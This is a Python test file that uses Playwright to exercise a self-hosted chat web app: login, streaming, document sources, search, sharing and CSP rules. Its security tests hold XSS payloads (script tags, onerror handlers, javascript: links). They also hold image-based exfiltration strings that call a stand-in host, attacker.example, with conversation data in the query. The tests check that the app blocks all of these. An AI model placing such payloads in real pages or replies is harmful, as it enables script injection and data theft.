"""The chat page in a real browser (Debian's Chromium driven by Playwright) against the live stack: what a person
sees. Screenshots of the main states go to var/screenshots/ (make test names the folder at the end)."""

import os
import time
from pathlib import Path

import pytest
from django.conf import settings

from chats.models import Chat, Message, User
from knowledge.models import Chunk, Collection, Document
from tests.conftest import E2E_PASSWORD
from tests.test_knowledge import pdf_bytes

pytestmark = [pytest.mark.e2e, pytest.mark.django_db(transaction=True)]

playwright_sync = pytest.importorskip("playwright.sync_api")

SCREENSHOTS = Path(settings.BASE_DIR) / "var" / "screenshots"
CHROMIUM = "/usr/bin/chromium"
# As the machine's notes advise: no background traffic to hosts this closed network cannot reach.
CHROMIUM_ARGS = [
    "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
    "--disable-component-update", "--disable-sync",
]  # fmt: skip


@pytest.fixture(scope="module")
def browser():
    if not Path(CHROMIUM).exists():
        pytest.fail("Chromium is missing: make test installs Debian's chromium package")
    # Playwright's sync API keeps an event loop running on this thread while the browser is open (so for this
    # module only): the tests' own ORM calls are still sequential.
    os.environ["DJANGO_ALLOW_ASYNC_UNSAFE"] = "true"
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    with playwright_sync.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        yield browser
        browser.close()
    os.environ.pop("DJANGO_ALLOW_ASYNC_UNSAFE", None)


def open_page(browser, base_url: str, username: str, *, width: int = 1280, height: int = 800):
    context = browser.new_context(viewport={"width": width, "height": height}, base_url=base_url)
    page = context.new_page()
    page.goto("/")
    assert page.url.endswith("/login?next=/")
    page.get_by_label("Username").fill(username)
    page.get_by_label("Password").fill(E2E_PASSWORD)
    page.get_by_role("button", name="Log in").click()
    page.wait_for_selector("body[data-ready=true]")
    return page


@pytest.fixture
def page(browser, live_stack, carol, scripted_model, smollm2):
    page = open_page(browser, live_stack.base_url, carol.username)
    yield page
    page.context.close()


def shot(page, name: str) -> None:
    page.screenshot(path=str(SCREENSHOTS / name), full_page=False)


def send(page, text: str, model: str = "Scripted") -> None:
    page.get_by_label("Model").select_option(label=model)
    page.get_by_label("Message", exact=True).fill(text)
    page.get_by_label("Message", exact=True).press("Enter")


def last_reply(page):
    return page.locator("article.message.assistant").last


def wait_finished(page, timeout: float = 30_000) -> None:
    page.wait_for_selector("article.message.assistant:last-of-type:not(.generating) .meta .usage", timeout=timeout)


def test_log_in_and_see_the_empty_chat_page(page):
    assert page.get_by_role("heading", name="Start a conversation").is_visible()
    page.reload()
    page.wait_for_selector("body[data-ready=true]")
    loaded = page.evaluate("performance.getEntriesByType('navigation')[0].loadEventEnd")
    ready = int(page.locator("body").get_attribute("data-ready-ms"))
    print(f"\nchat page: load event after {loaded:.0f} ms, ready (chats and models listed) after {ready} ms")
    models = page.get_by_label("Model").locator("option").all_inner_texts()
    assert "SmolLM2 135M Instruct (local)" in models and "Scripted" in models
    shot(page, "01-empty.png")


def test_a_reply_streams_into_the_page_and_survives_a_reload(page, carol, scripted_model):
    words = [f"word{i} " for i in range(12)]
    scripted_model.options = {"script": words, "delay": 0.15}
    scripted_model.save()
    send(page, "Tell me twelve words")
    page.wait_for_selector("article.message.assistant.generating")
    assert last_reply(page).get_by_text("Generating…").is_visible()
    lengths = []
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline:
        reply = last_reply(page)
        lengths.append(len(reply.locator(".body").inner_text()))
        if len(lengths) == 8:
            shot(page, "02-streaming.png")
        if "generating" not in (reply.get_attribute("class") or ""):
            break
        time.sleep(0.1)
    growth = sorted(set(n for n in lengths if 0 < n < len("".join(words).strip())))
    assert len(growth) >= 3, f"the text did not grow while streaming: {lengths}"
    wait_finished(page)
    body = last_reply(page).locator(".body").inner_text()
    assert body.strip() == "".join(words).strip()
    assert "prompt +" in last_reply(page).locator(".usage").inner_text()
    shot(page, "03-finished.png")

    chat = Chat.objects.get(owner=carol)
    assert page.url.endswith(f"/c/{chat.id}")
    assert page.locator(f'#chat-list a[href="/c/{chat.id}"]').inner_text() == "Tell me twelve words"
    page.reload()
    page.wait_for_selector("body[data-ready=true]")
    assert last_reply(page).locator(".body").inner_text().strip() == "".join(words).strip()
    assert page.locator("article.message.user .body").inner_text() == "Tell me twelve words"


def test_pick_another_model_and_chat_with_smollm2(page, carol, smollm2):
    smollm2.default_max_tokens = 40
    smollm2.save()
    send(page, "Say hello in one sentence.", model="SmolLM2 135M Instruct (local)")
    wait_finished(page, timeout=60_000)
    reply = Message.objects.get(chat__owner=carol, role="assistant")
    assert reply.model_id == "smollm2-135m" and reply.content
    assert last_reply(page).locator(".body").inner_text().strip()


def test_rename_and_delete_a_chat(page, carol):
    send(page, "A chat to rename")
    wait_finished(page)
    page.get_by_role("button", name="Rename").click()
    page.get_by_label("Chat title").fill("Renamed chat")
    page.get_by_label("Chat title").press("Enter")
    page.wait_for_selector("#chat-list a:text('Renamed chat')")
    assert page.get_by_role("heading", name="Renamed chat").is_visible()
    chat = Chat.objects.get(owner=carol)
    assert chat.title == "Renamed chat"

    page.once("dialog", lambda dialog: dialog.accept())
    page.get_by_role("button", name="Delete").click()
    page.wait_for_selector("#chat-list a:text('Renamed chat')", state="detached")
    assert not Chat.objects.filter(id=chat.id).exists()
    assert page.get_by_role("heading", name="Start a conversation").is_visible()


HOSTILE_REPLY = [
    "**bold** and `code`\n\n",
    "<script>window.__pwned = 'script'</script>\n\n",
    '<img src="x" onerror="window.__pwned = \'img\'">\n\n',
    "[click me](javascript:window.__pwned='link')\n\n",
    '<a href="javascript:window.__pwned=1">raw link</a> ',
    '<iframe src="javascript:window.__pwned=2"></iframe>',
    "<svg onload=\"window.__pwned='svg'\"></svg>\n\n",
    "| a | b |\n|---|---|\n| 1 | 2 |\n",
]


def test_hostile_markdown_from_the_model_or_the_user_runs_nothing(page, scripted_model):
    scripted_model.options = {"script": HOSTILE_REPLY}
    scripted_model.save()
    send(page, "<img src=x onerror=\"window.__pwned='user'\"> **not bold for users**")
    wait_finished(page)
    time.sleep(0.5)  # any injected handler would have fired by now
    assert page.evaluate("window.__pwned") is None
    messages = page.locator("#messages")
    assert messages.locator("script, iframe, svg, img[onerror], [onload], [onerror]").count() == 0
    hrefs = messages.locator("a").evaluate_all("links => links.map(a => a.getAttribute('href'))")
    assert not any(h and h.strip().lower().startswith("javascript:") for h in hrefs)
    reply = last_reply(page).locator(".body")
    assert reply.locator("strong").inner_text() == "bold" and reply.locator("code").first.inner_text() == "code"
    assert reply.locator("table td").count() == 2
    user = page.locator("article.message.user .body")
    assert user.inner_text().startswith("<img src=x") and user.locator("*").count() == 0
    shot(page, "06-hostile-markdown.png")


def test_an_error_shows_in_the_message_and_stays_after_a_reload(page, scripted_model):
    scripted_model.options = {"script": ["Partial ", "answer ", "lost"], "fail_after": 2}
    scripted_model.save()
    send(page, "This one fails")
    alert = page.locator("article.message.assistant .error")
    alert.wait_for()
    assert alert.inner_text() == "The scripted provider failed on purpose. (provider_error)"
    assert last_reply(page).locator(".body").inner_text().strip() == "Partial answer"
    shot(page, "04-error.png")
    page.reload()
    page.wait_for_selector("body[data-ready=true]")
    assert page.locator("article.message.assistant .error").inner_text().endswith("(provider_error)")


def test_stop_ends_the_reply_and_keeps_what_was_written(page, carol, scripted_model):
    scripted_model.options = {"script": [f"w{i} " for i in range(100)], "delay": 0.1}
    scripted_model.save()
    send(page, "Go on for a while")
    # Polled from here: the page's Content Security Policy forbids evaluating strings in it.
    body = page.locator("article.message.assistant .body")
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline and (body.count() == 0 or len(body.inner_text()) <= 10):
        time.sleep(0.05)
    page.get_by_role("button", name="Stop").click()
    page.wait_for_selector("article.message.assistant .usage:text('stopped')")
    reply = Message.objects.get(chat__owner=carol, role="assistant")
    assert reply.status == "cancelled"
    assert last_reply(page).locator(".body").inner_text().strip() == reply.content.strip()
    assert page.get_by_role("button", name="Send").is_visible()


def test_enter_sends_and_shift_enter_makes_a_new_line(page, carol):
    box = page.get_by_label("Message", exact=True)
    box.fill("first line")
    box.press("Shift+Enter")
    box.type("second line")
    assert box.input_value() == "first line\nsecond line"
    box.press("Enter")
    wait_finished(page)
    assert Message.objects.get(chat__owner=carol, role="user").content == "first line\nsecond line"


def test_on_a_phone_the_chats_open_from_a_menu(browser, live_stack, carol, scripted_model):
    page = open_page(browser, live_stack.base_url, carol.username, width=390, height=844)
    send(page, "Hello from a phone")
    wait_finished(page)
    assert not page.locator("#sidebar").is_visible() or page.locator("#sidebar").bounding_box()["x"] < 0
    shot(page, "05-phone.png")
    page.get_by_role("button", name="Show chats").click()
    page.wait_for_timeout(300)
    assert page.locator("#sidebar").bounding_box()["x"] >= 0
    assert page.locator("#chat-list a").first.inner_text() == "Hello from a phone"
    shot(page, "05-phone-chats.png")
    page.context.close()


def test_another_users_chat_url_is_refused(browser, live_stack, carol):
    other = User.objects.create_user("dave", password="x")
    secret = Chat.objects.create(owner=other, title="Dave's secret plans")
    page = open_page(browser, live_stack.base_url, carol.username)
    response = page.goto(f"/c/{secret.id}")
    assert response.status == 403
    assert page.get_by_role("alert").inner_text() == "This chat belongs to another user."
    assert "secret plans" not in page.content()
    shot(page, "07-refused.png")
    page.context.close()


def test_embedded_mode_chats_with_smollm2_in_the_browser(browser, embedded_mode, carol, smollm2):
    smollm2.default_max_tokens = 40
    smollm2.save()
    page = open_page(browser, embedded_mode.base_url, carol.username)
    send(page, "What is the capital of France?", model="SmolLM2 135M Instruct (local)")
    wait_finished(page, timeout=60_000)
    reply = Message.objects.get(chat__owner=carol, role="assistant")
    assert reply.status == "completed" and reply.content.strip()
    assert last_reply(page).locator(".body").inner_text().strip()
    shot(page, "08-embedded-smollm2.png")
    page.context.close()


def test_the_sql_analyst_workflow_from_the_picker_shows_its_steps(page, carol, smollm2, sql_analyst):
    smollm2.default_max_tokens = 60
    smollm2.save()
    page.reload()
    page.wait_for_selector("body[data-ready=true]")
    page.get_by_label("Workflow").select_option(label="SQL analyst (shared)")
    send(page, "Which product sold the most?", model="SmolLM2 135M Instruct (local)")
    wait_finished(page, timeout=90_000)
    steps = last_reply(page).locator("ol.steps li")
    assert steps.all_inner_texts() == [
        "Instructions: done",
        "Rewriting the question: done",
        "Querying the database: done",
        "Writing the answer: done",
    ]
    assert last_reply(page).locator(".body").inner_text().strip()
    reply = Message.objects.get(chat__owner=carol, role="assistant")
    assert reply.workflow_id == sql_analyst.id and reply.status == "completed"
    shot(page, "09-sql-analyst.png")


def test_tool_calls_show_in_the_reply(page, carol, scripted_model):
    from pipelines.models import Workflow

    Workflow.objects.create(owner=carol, name="Calculator", steps=[{"type": "generate", "tools": ["calculator"]}])
    scripted_model.options = {
        "script": ["The answer is 42."],
        "tool_rounds": [[{"name": "calculator", "arguments": {"expression": "6 * 7"}}]],
    }
    scripted_model.save()
    page.reload()
    page.wait_for_selector("body[data-ready=true]")
    page.get_by_label("Workflow").select_option(label="Calculator")
    send(page, "What is 6 times 7?")
    wait_finished(page)
    tool = last_reply(page).locator("details.tool")
    assert tool.locator("summary").inner_text() == "Tool: calculator (done)"
    tool.locator("summary").click()
    assert '"value": 42' in tool.locator(".tool-result").inner_text()
    shot(page, "10-tool-call.png")
    page.reload()
    page.wait_for_selector("body[data-ready=true]")
    assert last_reply(page).locator("details.tool summary").inner_text() == "Tool: calculator (done)"


LIGHTHOUSE_PAGES = [
    "Keepers' handbook. Chapter one covers the history of the Neist Point lighthouse, built in 1909.",
    "Chapter two. The lamp of the Neist Point lighthouse is lit thirty minutes before sunset and put out at dawn.",
]
TIDES = (
    "# Tide tables\n\n"
    "High tide at Portree harbour comes at 6:40 in the morning and 7:05 in the evening.\n\n"
    "Low tide <script>window.__pwned = 'doc'</script> leaves the slipway dry for two hours.\n"
)


def open_documents_page(page):
    page.get_by_role("link", name="Documents", exact=True).click()
    page.wait_for_url("**/documents")
    page.wait_for_selector("body[data-ready=true]")


def upload_files(page, collection: str, files: list[dict], timeout: float = 120_000) -> None:
    """Make `collection` on the documents page, upload `files` into it, and wait until all are ready."""
    page.get_by_label("New collection").fill(collection)
    page.get_by_role("button", name="Create", exact=True).click()
    page.wait_for_selector(f"#collection-list a[aria-current=page]:has-text('{collection}')")
    assert page.get_by_role("heading", name=collection).is_visible()
    page.get_by_label("Add files").set_input_files(files)
    page.get_by_role("button", name="Upload", exact=True).click()
    page.wait_for_selector(f"#document-rows tr >> nth={len(files) - 1}")
    # The page polls every 2 s while a document is queued or processing; the worker reads them meanwhile.
    page.wait_for_selector(
        f"#document-rows:not(:has(tr[data-status=queued], tr[data-status=processing])) tr >> nth={len(files) - 1}",
        timeout=timeout,
    )
    statuses = page.locator("#document-rows tr").evaluate_all("rows => rows.map(r => r.dataset.status)")
    assert statuses == ["ready"] * len(files), page.locator("#document-rows").inner_text()


def test_upload_a_markdown_file_and_read_it_on_its_page(page, carol, minilm):
    open_documents_page(page)
    assert page.get_by_role("heading", name="Your documents").is_visible()
    upload_files(page, "Harbour notes", [{"name": "tides.md", "mimeType": "text/markdown", "buffer": TIDES.encode()}])
    row = page.locator("#document-rows tr").first
    assert row.locator(".status").inner_text() == "Ready"
    document = Document.objects.get(collection__owner=carol, filename="tides.md")
    assert document.status == "ready" and document.chunk_count >= 1
    cells = row.locator("td").all_inner_texts()
    assert cells[2].endswith(" B") and cells[4] == str(document.chunk_count)
    assert page.locator("#upload-log li.ok").inner_text().startswith("tides.md: uploaded")
    assert page.locator("#collection-list a[aria-current=page] .count").inner_text() == "1"
    shot(page, "12-documents.png")

    row.get_by_role("link", name="tides.md").click()
    page.wait_for_url(f"**/documents/{document.id}")
    assert page.get_by_role("heading", name="tides.md").is_visible()
    assert page.locator("#doc-status").text_content() == "ready"
    download = page.get_by_role("link", name="Download tides.md")
    assert download.get_attribute("href") == f"/api/documents/{document.id}/file"
    text = page.locator("article.doc-text").inner_text()
    assert "High tide at Portree harbour" in text and "<script>window.__pwned = 'doc'</script>" in text
    assert page.evaluate("window.__pwned") is None and page.locator("article.doc-text script").count() == 0
    chunk = Chunk.objects.filter(document=document).order_by("index").first()
    page.goto(f"/documents/{document.id}#chunk-{chunk.id}")
    target = page.locator(f"#chunk-{chunk.id}")
    assert target.evaluate("element => element.matches(':target')")
    assert target.evaluate("element => getComputedStyle(element).backgroundColor") != "rgba(0, 0, 0, 0)"
    shot(page, "13-document-page.png")
    with page.expect_download() as download_info:
        download.click()
    assert download_info.value.suggested_filename == "tides.md"


def test_a_reply_from_documents_lists_its_sources_with_links(page, carol, scripted_model, minilm, ask_my_documents):
    scripted_model.context_window = 4000
    scripted_model.options = {"script": ["The lamp is lit ", "thirty minutes before sunset [2]."]}
    scripted_model.save()
    open_documents_page(page)
    upload_files(
        page,
        "Trips",
        [
            {"name": "keepers.pdf", "mimeType": "application/pdf", "buffer": pdf_bytes(LIGHTHOUSE_PAGES)},
            {"name": "tides.md", "mimeType": "text/markdown", "buffer": TIDES.encode()},
        ],
    )
    tides = Document.objects.get(collection__owner=carol, filename="tides.md")
    page.get_by_role("link", name="Chats", exact=True).click()
    page.wait_for_selector("body[data-ready=true]")

    # Attach the Markdown file from the picker; the workflow searches every collection for the rest.
    page.get_by_role("button", name="Attach").click()
    picker = page.get_by_role("dialog", name="Attach documents")
    picker.get_by_label("tides.md").check()
    assert page.get_by_role("list", name="Documents attached to the next message").inner_text().startswith("tides.md")
    shot(page, "16-attach-picker.png")
    picker.get_by_role("button", name="Done").click()
    assert not picker.is_visible()
    page.get_by_label("Workflow").select_option(label="Ask my documents (shared)")
    send(page, "When is the lighthouse lamp lit?")
    wait_finished(page)
    assert page.locator("#attachment-chips").is_hidden()  # cleared once sent

    user = page.locator("article.message.user").last
    chip = user.get_by_role("link", name="tides.md")
    assert chip.get_attribute("href") == f"/documents/{tides.id}"
    sources = last_reply(page).get_by_role("region", name="Sources").locator("li")
    links = sources.locator("a")
    texts = links.all_inner_texts()
    reply = Message.objects.get(chat__owner=carol, role="assistant")
    assert len(texts) == len(reply.sources) >= 2
    assert texts[0] == "[1] tides.md" and links.first.get_attribute("href") == f"/documents/{tides.id}"
    lamp = next(s for s in reply.sources if s["documentId"] != str(tides.id) and "sunset" in s["snippet"])
    lamp_link = last_reply(page).locator(f"a[href='/documents/{lamp['documentId']}#chunk-{lamp['id']}']")
    assert lamp_link.inner_text() == f"[{lamp['number']}] keepers.pdf, p. 2"
    assert "thirty minutes before sunset" in lamp_link.locator("xpath=..").locator(".snippet").inner_text()
    shot(page, "14-sources.png")

    page.reload()
    page.wait_for_selector("body[data-ready=true]")
    assert last_reply(page).get_by_role("region", name="Sources").locator("a").all_inner_texts() == texts
    assert page.locator("article.message.user").last.get_by_role("link", name="tides.md").is_visible()

    last_reply(page).locator(f"a[href='/documents/{lamp['documentId']}#chunk-{lamp['id']}']").click()
    page.wait_for_url(f"**/documents/{lamp['documentId']}#chunk-{lamp['id']}")
    target = page.locator(f"#chunk-{lamp['id']}")
    assert target.evaluate("element => element.matches(':target')")
    assert "thirty minutes before sunset" in target.inner_text() and "page 2" in target.inner_text()
    shot(page, "17-passage-link.png")


def test_on_a_phone_sources_and_the_picker_fit_the_screen(browser, live_stack, carol, scripted_model, minilm):
    collection = Collection.objects.create(owner=carol, name="Phone notes", embedding_model=minilm)
    text = "A short note about ferries leaving Mallaig at 9:15."
    document = Document.objects.create(
        collection=collection, title="ferries.md", filename="ferries.md", kind="markdown", size_bytes=len(text),
        sha256="f" * 64, data=text.encode(), text=text, status="ready", chunk_count=0,
    )  # fmt: skip
    scripted_model.context_window = 4000
    scripted_model.options = {"script": ["It leaves at 9:15 [1]."]}
    scripted_model.save()
    page = open_page(browser, live_stack.base_url, carol.username, width=390, height=844)
    page.get_by_role("button", name="Attach").click()
    picker = page.get_by_role("dialog", name="Attach documents")
    picker.get_by_label("ferries.md").check()
    box = picker.bounding_box()
    assert box["x"] >= 0 and box["x"] + box["width"] <= 390
    page.keyboard.press("Escape")
    assert not picker.is_visible()
    send(page, "When does the ferry leave?")
    wait_finished(page)
    link = last_reply(page).get_by_role("region", name="Sources").get_by_role("link")
    assert link.inner_text() == "[1] ferries.md" and link.get_attribute("href") == f"/documents/{document.id}"
    assert link.bounding_box()["x"] + link.bounding_box()["width"] <= 390
    shot(page, "15-phone-sources.png")
    page.goto("/documents")
    page.wait_for_selector("body[data-ready=true] #document-rows tr")
    assert page.get_by_role("link", name="ferries.md").bounding_box()["x"] >= 0
    shot(page, "18-phone-documents.png")
    page.context.close()


def test_the_api_documentation_page_renders_offline_under_the_csp(page):
    page.goto("/api/schema/docs")
    page.wait_for_selector(".swagger-ui .opblock", timeout=15_000)
    assert page.locator(".opblock-summary-path", has_text="/api/chats/{chat_id}/messages/stream").count() >= 1
    shot(page, "11-api-docs.png")


# A 1x1 PNG, for the allowed image host.
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360f8cfc0f01f0005000201a5d0a3"
    "1f0000000049454e44ae426082"
)
LEAKY_REPLY = [
    "Here is the chart:\n\n",
    "![p](https://attacker.example/leak.png?secret=the-conversation)\n\n",
    '<img src="//attacker.example/raw.png?secret=2" alt="raw">\n\n',
    '<img src="data:image/png;base64,AAAA" srcset="https://attacker.example/srcset.png 2x" alt="inline">\n\n',
    '<picture><source srcset="https://attacker.example/source.png"></picture>\n\n',
    '<table background="https://attacker.example/bg.png"><tr><td>cell</td></tr></table>\n\n',
    "![plain](http://attacker.example/plain.png) and ![ftp](ftp://attacker.example/f.png)\n\n",
    "![logo](https://images.allowed.test/logo.png)\n",
]


def test_a_reply_with_remote_images_loads_none_from_hosts_not_allowed_and_shows_links(page, scripted_model):
    """Issue 13, finding 5: an image URL in a reply sent its query to another site as the page showed it."""
    from tests.live import ALLOWED_IMAGE_HOST

    requested, served = [], []
    page.on("request", lambda request: requested.append(request.url))

    def serve(route):
        served.append(route.request.url)
        route.fulfill(status=200, content_type="image/png", body=PNG)

    page.route(f"https://{ALLOWED_IMAGE_HOST}/**", serve)
    page.route("**/*attacker.example*", lambda route: route.abort())
    page.evaluate(
        "window.__violations = [];"
        "document.addEventListener('securitypolicyviolation', (e) => window.__violations.push(e.blockedURI))"
    )
    scripted_model.options = {"script": LEAKY_REPLY}
    scripted_model.save()
    send(page, "Show me the chart")
    wait_finished(page)
    body = last_reply(page).locator(".body")
    body.locator("img[alt=logo]").wait_for()
    page.wait_for_function("document.querySelector('img[alt=logo]').naturalWidth > 0")
    time.sleep(0.5)  # any request an image would make has been made by now

    def check() -> None:
        assert not [url for url in requested if "attacker.example" in url], requested
        assert page.evaluate("window.__violations || []") == []  # nothing even tried
        images = body.locator("img").evaluate_all("imgs => imgs.map(i => i.getAttribute('src'))")
        assert images == ["data:image/png;base64,AAAA", f"https://{ALLOWED_IMAGE_HOST}/logo.png"], images
        leak = body.get_by_role("link", name="image: p (attacker.example)")
        assert leak.get_attribute("href") == "https://attacker.example/leak.png?secret=the-conversation"
        assert leak.get_attribute("rel") == "noopener noreferrer nofollow" and leak.get_attribute("target") == "_blank"
        raw = body.get_by_role("link", name="image: raw (attacker.example)")
        assert raw.get_attribute("href") == "http://attacker.example/raw.png?secret=2"  # the page is on http
        assert body.get_by_role("link", name="image: plain (attacker.example)").count() == 1
        assert "image: ftp (attacker.example)" in body.inner_text()  # not a link: not http(s)
        assert body.locator("a[href^='ftp:'], picture, source, [srcset], [background]").count() == 0

    check()
    assert served == [f"https://{ALLOWED_IMAGE_HOST}/logo.png"]
    shot(page, "22-remote-images.png")
    page.reload()  # the saved reply is rendered the same way
    page.wait_for_selector("body[data-ready=true]")
    page.evaluate(
        "window.__violations = [];"
        "document.addEventListener('securitypolicyviolation', (e) => window.__violations.push(e.blockedURI))"
    )
    body = last_reply(page).locator(".body")
    body.locator("img[alt=logo]").wait_for()
    time.sleep(0.5)
    check()


def test_the_csp_lets_images_load_from_the_allowed_hosts_only(page, live_stack):
    """The CSP is the second wall: an image the renderer let through by mistake would still be blocked."""
    from tests.live import ALLOWED_IMAGE_HOST

    policy = page.request.get("/").headers["content-security-policy"]
    img_src = next(d for d in policy.split(";") if d.strip().startswith("img-src")).split()
    assert img_src == ["img-src", "'self'", "data:", "blob:", f"https://{ALLOWED_IMAGE_HOST}"]
    page.route(f"https://{ALLOWED_IMAGE_HOST}/**", lambda route: route.fulfill(content_type="image/png", body=PNG))
    page.route("**/*attacker.example*", lambda route: route.fulfill(content_type="image/png", body=PNG))
    loaded = page.evaluate(
        """async (hosts) => {
          const load = (src) => new Promise((resolve) => {
            const image = new Image();
            image.onload = () => resolve(true);
            image.onerror = () => resolve(false);
            image.src = src;
          });
          return [await load(`https://${hosts[0]}/x.png`), await load("https://attacker.example/y.png")];
        }""",
        [ALLOWED_IMAGE_HOST],
    )
    assert loaded == [True, False]


# --- Search, pins, archive, export and import (issue 18) ---------------------------------------------------


def test_search_finds_a_message_and_opens_it_scrolled_and_highlighted(page, carol):
    from datetime import timedelta

    from django.utils import timezone

    start = timezone.now() - timedelta(hours=2)

    def add(chat, role, content, parent, minute):
        return Message.objects.create(
            chat=chat, role=role, content=content, parent=parent, created_at=start + timedelta(minutes=minute)
        )

    trip = Chat.objects.create(owner=carol, title='Harbour trip <img src=x onerror="window.__pwned=1">')
    parent = None
    for i in range(12):  # enough before and after the match that the page must scroll to it
        parent = add(
            trip, "user" if i % 2 == 0 else "assistant", f"Small talk number {i} about the weather.", parent, i
        )
    target = add(
        trip, "assistant", 'The Raasay ferry leaves Sconser every hour. <img src=x onerror="window.__pwned=1">',
        parent, 20,
    )  # fmt: skip
    parent = target
    for i in range(12):
        parent = add(trip, "user" if i % 2 == 0 else "assistant", f"More small talk {i}, about midges.", parent, 30 + i)
    Chat.objects.create(owner=carol, title="Unrelated chat")
    dave = User.objects.create_user("dave-search", password="x")
    secret = Chat.objects.create(owner=dave, title="Dave's ferry plans")
    add(secret, "user", "dave secret Raasay ferry timetable", None, 0)

    page.reload()
    page.wait_for_selector("body[data-ready=true]")
    page.get_by_label("Search chats").fill("raasay ferry")
    results = page.get_by_role("region", name="Search results")
    results.locator("li a").first.wait_for()
    assert "1 match" in page.locator("#search-status").inner_text()
    text = results.inner_text()
    assert "Harbour trip" in text and "dave secret" not in text and "Dave's" not in text
    first = results.locator("li a").first
    assert {m.lower() for m in first.locator("mark").all_inner_texts()} == {"raasay", "ferry"}
    assert first.locator(".result-title").inner_text() == trip.title  # shown as text, never as markup
    assert first.locator(".result-snippet").inner_text() == "Raasay ferry leaves Sconser every hour"
    assert results.locator("img").count() == 0 and page.evaluate("window.__pwned") is None
    assert page.locator("#chat-nav").is_hidden()
    shot(page, "19-search-results.png")

    first.click()
    page.wait_for_url(f"**/c/{trip.id}#message-{target.id}")
    found = page.locator(f"#message-{target.id}")
    found.wait_for()
    assert "search-hit" in found.get_attribute("class")
    assert page.locator("#chat-title").inner_text() == trip.title
    box, pane = found.bounding_box(), page.locator("#messages").bounding_box()
    assert pane["y"] <= box["y"] and box["y"] + box["height"] <= pane["y"] + pane["height"], (box, pane)
    assert page.evaluate("window.__pwned") is None
    shot(page, "20-search-opened.png")

    page.get_by_label("Search chats").fill("")
    page.get_by_label("Search chats").press("Enter")
    assert page.locator("#chat-nav").is_visible() and results.is_hidden()


def test_pin_archive_export_and_import_from_the_page(page, carol, tmp_path):
    import json

    from django.utils import timezone

    older = Chat.objects.create(owner=carol, title="Older chat")
    Message.objects.create(chat=older, role="user", content="An older question.", created_at=timezone.now())
    newer = Chat.objects.create(owner=carol, title="Newer chat")
    Message.objects.create(chat=newer, role="user", content="A newer question.", created_at=timezone.now())
    page.reload()
    page.wait_for_selector("body[data-ready=true]")
    links = page.locator("#chat-list a")
    assert links.all_inner_texts() == ["Newer chat", "Older chat"]

    links.nth(1).click()
    page.get_by_role("button", name="Pin").click()
    page.wait_for_selector("#chat-list a:first-child:has-text('Older chat')")
    assert links.first.locator(".pin").inner_text() == "Pinned"
    assert page.get_by_role("button", name="Unpin").get_attribute("aria-pressed") == "true"
    older.refresh_from_db()
    assert older.pinned

    page.locator("#export-menu summary").click()
    with page.expect_download() as json_download:
        page.get_by_role("link", name="JSON (every branch)").click()
    exported = tmp_path / "older.json"
    json_download.value.save_as(exported)
    assert json_download.value.suggested_filename.startswith("chatsite-older-chat-")
    document = json.loads(exported.read_text())
    assert document["chats"][0]["title"] == "Older chat" and document["chats"][0]["pinned"] is True
    page.locator("#export-menu summary").click()
    with page.expect_download() as markdown_download:
        page.get_by_role("link", name="Markdown (this branch)").click()
    assert markdown_download.value.suggested_filename.endswith(".md")
    assert "An older question." in Path(markdown_download.value.path()).read_text()

    page.get_by_role("button", name="Archive", exact=True).click()
    page.wait_for_selector("#chat-list a:has-text('Older chat')", state="detached")
    assert links.all_inner_texts() == ["Newer chat"]
    page.get_by_role("button", name="Archived", exact=True).click()
    page.wait_for_selector("#chat-list a:has-text('Older chat')")
    assert page.locator("#list-heading").is_visible() and links.count() == 1
    page.get_by_role("button", name="Archived", exact=True).click()
    page.wait_for_selector("#chat-list a:has-text('Older chat')", state="detached")

    with page.expect_download() as all_download:
        page.get_by_role("link", name="Export all").click()
    everything = json.loads(Path(all_download.value.path()).read_text())
    assert {c["title"] for c in everything["chats"]} == {"Older chat", "Newer chat"}

    page.locator("#import-file").set_input_files(str(exported))
    report = page.get_by_role("dialog", name="Import")
    report.wait_for()
    assert report.locator("#import-summary").inner_text() == "Imported 1 chat (1 message) from a chatsite export."
    shot(page, "21-import-report.png")
    report.get_by_role("button", name="Close").click()
    assert report.is_hidden()
    assert Chat.objects.filter(owner=carol, title="Older chat").count() == 2
    page.wait_for_selector("#chat-list a:has-text('Older chat')")  # the copy is pinned, not archived


def test_a_share_link_shows_a_reply_streaming_live_to_a_visitor_until_it_is_revoked(
    page, browser, live_stack, carol, scripted_model
):
    from chats.models import Share

    scripted_model.options = {"script": ["Cats ", "*sleep*."]}
    scripted_model.save()
    send(page, "What do cats do?")
    wait_finished(page)
    page.get_by_role("button", name="Share").click()
    dialog = page.get_by_role("dialog", name="Share this chat")
    dialog.get_by_role("button", name="Create link").click()
    url_box = dialog.get_by_label("New link (shown only now)")
    url_box.wait_for()
    url = url_box.input_value()
    assert "/s/" in url
    dialog.locator("#share-list li").first.wait_for()  # the list is fetched again after the link is made
    assert dialog.locator("#share-list li").count() == 1
    shot(page, "23-share-dialog.png")
    dialog.get_by_role("button", name="Close").click()

    # A visitor with no session opens the link in a browser of their own.
    visitor_context = browser.new_context(viewport={"width": 1280, "height": 800}, base_url=live_stack.base_url)
    visitor = visitor_context.new_page()
    try:
        visitor.goto(url.split(live_stack.base_url, 1)[-1])
        visitor.wait_for_selector("article.message.assistant .body em")
        assert visitor.locator("#share-title").inner_text() == "What do cats do?"
        assert visitor.locator("article.message.assistant .body").inner_text().strip() == "Cats sleep."
        assert visitor.locator("#prompt").count() == 0 and visitor.locator("#chat-list").count() == 0

        words = [f"word{i} " for i in range(16)]
        scripted_model.options = {"script": words, "delay": 0.25}
        scripted_model.save()
        send(page, "Tell me sixteen words")
        visitor.wait_for_selector("article.message.assistant.generating", timeout=10_000)
        lengths = []
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline:
            reply = visitor.locator("article.message.assistant").last
            lengths.append(len(reply.locator(".body").inner_text()))
            if len(lengths) == 6:
                shot(visitor, "24-share-visitor-streaming.png")
            if "generating" not in (reply.get_attribute("class") or ""):
                break
            time.sleep(0.1)
        growth = sorted(set(n for n in lengths if 0 < n < len("".join(words).strip())))
        assert len(growth) >= 3, f"the visitor did not see the text grow: {lengths}"
        reply = visitor.locator("article.message.assistant").last
        assert reply.locator(".body").inner_text().strip() == "".join(words).strip()
